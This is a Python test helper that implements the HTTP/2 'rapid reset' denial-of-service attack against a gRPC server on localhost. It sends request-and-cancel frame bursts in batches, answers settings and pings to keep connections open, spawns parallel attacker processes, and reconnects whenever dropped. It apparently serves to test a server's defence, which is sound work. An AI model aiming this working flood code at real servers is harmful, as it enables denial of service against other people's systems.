"""HTTP/2 client that opens calls and resets each at once, in the same write as its request.

gRPC's own clients cannot: they wait between the two. Run as a process, so that it takes nothing of
its caller's event loop; bounded by seconds and calls.
"""

import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from typing import Any

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
CANCEL = (8).to_bytes(4, "big")

HOST = "127.0.0.1"
_MAX_CALLS = 400_000
_CALLS_PER_WRITE = 32


def frame(kind: int, content: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    """Returns a frame of HTTP/2 (RFC 9113, section 4.1)."""
    head = len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + content


def call_and_reset(stream: int, path: str) -> bytes:
    """A gRPC call with an empty message, and its reset."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return (
        frame(HEADERS, b"".join(map(_literal, headers.items())), END_HEADERS, stream)
        + frame(DATA, bytes(5), END_STREAM, stream)
        + frame(RST_STREAM, CANCEL, 0, stream)
    )


def _literal(header: tuple[str, str]) -> bytes:
    """Returns a header in HPACK (RFC 7541, section 6.2.2): without index or Huffman code, below
    127 bytes."""
    return b"\0" + b"".join(bytes([len(part)]) + part.encode() for part in header)


def attack(port: int, path: str, seconds: float, source: str = HOST) -> tuple[int, bool]:
    """Attacks on one connection. Returns the calls made, and whether the server dropped it."""
    stop = time.monotonic() + seconds
    stream = 1
    with socket.create_connection((HOST, port), seconds, (source, 0)) as connection:
        connection.settimeout(None)
        connection.sendall(PREFACE + frame(SETTINGS))
        threading.Thread(target=_acknowledge, args=(connection,), daemon=True).start()
        try:
            while time.monotonic() < stop and stream < 2 * _MAX_CALLS:
                streams = range(stream, stream + 2 * _CALLS_PER_WRITE, 2)
                connection.sendall(b"".join(call_and_reset(number, path) for number in streams))
                stream = streams.stop
        except OSError:
            return stream // 2, True
    return stream // 2, False


def attack_again(port: int, path: str, seconds: float, source: str) -> None:
    """Attacks on one connection after the other, each opened as soon as the last was dropped."""
    stop = time.monotonic() + seconds
    while (left := stop - time.monotonic()) > 0:
        with suppress(OSError):
            attack(port, path, left, source)


def _acknowledge(connection: socket.socket) -> None:
    """Reads all and acknowledges settings and pings, without which the server would close it."""
    with suppress(OSError), connection.makefile("rb") as reader:
        while len(head := reader.read(9)) == 9:
            content = reader.read(int.from_bytes(head[:3], "big"))
            if head[3] in (SETTINGS, PING) and not head[4] & ACK:
                answer = content if head[3] == PING else b""
                connection.sendall(frame(head[3], answer, ACK))


@contextmanager
def attackers(
    port: int, path: str, number: int, seconds: float
) -> Iterator[list[tuple[int, bool]]]:
    """Processes that attack at once, each on a connection of its own. At the end, which waits for
    them: what `attack` returned to each."""
    outcomes: list[tuple[int, bool]] = []
    with _processes(number, port, path, seconds) as processes:
        yield outcomes
        for process in processes:
            num_calls, was_dropped = process.communicate()[0].split()
            outcomes.append((int(num_calls), was_dropped == "True"))


@contextmanager
def attackers_again(
    port: int, path: str, number: int, seconds: float, source: str
) -> Iterator[None]:
    """Processes that attack from an address until the block ends, `seconds` at most, and connect
    again whenever they are dropped."""
    with _processes(number, port, path, seconds, source) as processes:
        try:
            yield
        finally:
            for process in processes:
                process.kill()


@contextmanager
def _processes(number: int, *arguments: Any) -> Iterator[list["subprocess.Popen[str]"]]:
    command = [sys.executable, "-m", __name__, *map(str, arguments)]
    with ExitStack() as stack:
        processes = [
            stack.enter_context(subprocess.Popen(command, stdout=subprocess.PIPE, text=True))
            for _ in range(number)
        ]
        for process in processes:
            assert process.stdout is not None
            assert process.stdout.readline() == "attacking\n"
        yield processes


if __name__ == "__main__":
    print("attacking", flush=True)
    _port, _path, _seconds, *_sources = sys.argv[1:]
    if _sources:
        attack_again(int(_port), _path, float(_seconds), *_sources)
    else:
        print(*attack(int(_port), _path, float(_seconds)))
